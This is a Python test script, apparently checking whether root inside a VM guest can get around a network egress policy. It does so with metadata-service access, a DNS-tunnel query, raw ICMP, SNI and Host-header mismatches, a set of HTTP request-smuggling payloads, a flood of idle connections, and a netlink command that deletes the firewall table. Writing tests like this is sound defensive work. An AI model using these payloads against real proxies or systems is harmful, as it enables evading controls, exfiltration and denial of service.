"""Root in the guest tries to reach what policy does not name. Prints one JSON object: name of the attempt -> what came of it."""
import json, os, resource, socket, ssl, struct, sys

allowed, witness = sys.argv[1], sys.argv[2:]  # a host that policy allows on 80 and 443; addresses that must never hear of us
out = {}
WAIT = 20


def attempt(name):
    def run(f):
        try:
            out[name] = f()
        except Exception as e:
            out[name] = "error: %s: %s" % (type(e).__name__, e)
    return run


def talk(sock, data, until=None):
    sock.settimeout(WAIT)
    sock.sendall(data)
    got = b""
    try:
        while len(got) < 65536:
            piece = sock.recv(4096)
            if not piece:
                break
            got += piece
            if until and until in got:
                break
    except (TimeoutError, ConnectionResetError):
        pass
    return got.decode("latin-1")


def status(answer):
    return answer.split("\r\n", 1)[0][:80]


def plain(host, port, request):
    return status(talk(socket.create_connection((host, port), WAIT), request))


def tls(host, sni):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    return ctx.wrap_socket(socket.create_connection((host, 443), WAIT), server_hostname=sni)


def get(host, path="/", extra=""):
    return ("GET %s HTTP/1.1\r\nHost: %s\r\n%sConnection: close\r\n\r\n" % (path, host, extra)).encode()


# Addresses instead of names, the metadata service, the host's own addresses.
for addr in ["93.184.215.14", "10.0.0.1", "169.254.169.254"] + witness:
    host, _, port = addr.partition(":")
    attempt("direct " + addr)(lambda: plain(host, int(port or 80), get(host)))

# UDP to anyone: QUIC, NTP, and DNS to a resolver of one's own choice.
def udp(port, data):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.connect(("8.8.8.8", port))
    s.send(data)
    return "answer of %d bytes" % len(s.recv(4096))

attempt("udp 443")(lambda: udp(443, b"\xc0" * 1200))
attempt("udp 123")(lambda: udp(123, b"\x1b" + b"\0" * 47))

def question(name, kind):
    q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack(">HH", kind, 1)

def ask(name, kind):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(WAIT)
    s.connect(("8.8.8.8", 53))
    s.send(question(name, kind))
    a = s.recv(4096)
    return "rcode %d, %d answers" % (a[3] & 15, struct.unpack(">H", a[6:8])[0])

attempt("dns tunnel")(lambda: ask("6578666c.7472617465.secret.tunnel.test", 16))

# Raw sockets go around the rules of the guest's own kernel; nobody is there.
def raw():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.settimeout(3)
    s.sendto(b"\x08\0\xf7\xff\0\0\0\0", ("8.8.8.8", 0))
    return "answer of %d bytes" % len(s.recv(4096))

attempt("raw icmp")(raw)

# The serial port of the link belongs to the agent.
def ports():
    found = []
    for root in ("/dev",):
        for name in os.listdir(root):
            if name.startswith("vport"):
                try:
                    os.close(os.open("/dev/" + name, os.O_RDWR))
                    found.append("opened " + name)
                except OSError as e:
                    found.append(e.strerror)
    return ", ".join(found)

attempt("link port")(ports)

# One name at the door, another inside.
attempt("allowed")(lambda: plain(allowed, 80, get(allowed, "/fine")))
attempt("allowed tls")(lambda: status(talk(tls(allowed, allowed), get(allowed, "/fine"))))
attempt("unlisted")(lambda: plain("unlisted.test", 80, get("unlisted.test")))
attempt("foreign sni")(lambda: status(talk(tls(allowed, "foreign-sni.test"), get(allowed))))
attempt("foreign host")(lambda: plain(allowed, 80, get("foreign-host.test")))
attempt("foreign host tls")(lambda: status(talk(tls(allowed, allowed), get("foreign-host.test"))))
attempt("absolute form")(lambda: plain(allowed, 80, b"GET http://absolute.test/ HTTP/1.1\r\nHost: absolute.test\r\nConnection: close\r\n\r\n"))
attempt("absolute form, own host")(lambda: plain(allowed, 80, ("GET http://absolute.test/ HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % allowed).encode()))
attempt("connect")(lambda: plain(allowed, 80, b"CONNECT connect.test:443 HTTP/1.1\r\nHost: connect.test:443\r\n\r\n"))
attempt("not http")(lambda: status(talk(socket.create_connection((allowed, 80), WAIT), b"SSH-2.0-nobody\r\n\r\n")))

# Requests that two readers could cut in two places. Each hides "GET /smuggled" for foreign-host.test.
inner = "GET /smuggled HTTP/1.1\r\nHost: smuggled.test\r\n\r\n"
shapes = {
    "cl.te": "POST /cl-te HTTP/1.1\r\nHost: H\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % (5 + len(inner)) + inner,
    "te.cl": "POST /te-cl HTTP/1.1\r\nHost: H\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n%x\r\n%s\r\n0\r\n\r\n" % (len(inner), inner),
    "te.te": "POST /te-te HTTP/1.1\r\nHost: H\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n" + inner,
    "te space": "POST /te-space HTTP/1.1\r\nHost: H\r\nTransfer-Encoding : chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + inner,
    "two lengths": "POST /two-cl HTTP/1.1\r\nHost: H\r\nContent-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(inner) + inner,
    "plus length": "POST /plus HTTP/1.1\r\nHost: H\r\nContent-Length: +0\r\n\r\n" + inner,
    "bare lf": "GET /bare-lf HTTP/1.1\nHost: H\nX: y\r\n\n" + inner,
    "folded": "POST /folded HTTP/1.1\r\nHost: H\r\nX: a\r\n Content-Length: %d\r\n\r\n" % len(inner) + inner,
    "chunk extension": "POST /ext HTTP/1.1\r\nHost: H\r\nTransfer-Encoding: chunked\r\n\r\n1;a\nb\r\nx\r\n0\r\n\r\n" + inner,
    "two hosts": "GET /two-hosts HTTP/1.1\r\nHost: H\r\nHost: smuggled.test\r\n\r\n",
}
for name, shape in shapes.items():
    attempt("smuggle " + name)(lambda: status(talk(socket.create_connection((allowed, 80), WAIT), shape.replace("H\r\n", allowed + "\r\n", 1).replace("H\n", allowed + "\n", 1).encode(), b"\r\n\r\n")))

# A flood of idle connections.
def idle():
    resource.setrlimit(resource.RLIMIT_NOFILE, (20000, 20000))
    held = []
    for i in range(10000):
        s = socket.socket()
        s.settimeout(WAIT)
        try:
            s.connect((allowed, 443))
        except OSError as e:
            return "%d, then %s; then %s" % (len(held), e, plain(allowed, 80, get(allowed, "/after")))
        held.append(s)
    return "%d; then %s" % (len(held), plain(allowed, 80, get(allowed, "/after")))

attempt("idle")(idle)

# The rules of the guest's own kernel are gone: nothing is behind them.
def flush():
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)  # NETLINK_NETFILTER
    def message(kind, flags, family, res):
        body = struct.pack(">BBH", family, 0, res)
        return struct.pack("<IHHII", 16 + len(body), kind, flags, 1, 0) + body
    # linux/netfilter/nfnetlink.h: batch begin 16, end 17; subsystem nftables 10, NFT_MSG_DELTABLE 2
    s.send(message(16, 1, 0, 10) + message(10 << 8 | 2, 5, 0, 0) + message(17, 1, 0, 10))
    s.settimeout(5)
    code = struct.unpack("<i", s.recv(4096)[16:20])[0]
    return "flushed" if code == 0 else os.strerror(-code)

attempt("flush")(flush)
def after():
    s = socket.socket()
    s.settimeout(4)
    s.connect(("93.184.215.14", 80))
    return "connected"

attempt("direct after flush")(after)
print(json.dumps(out))
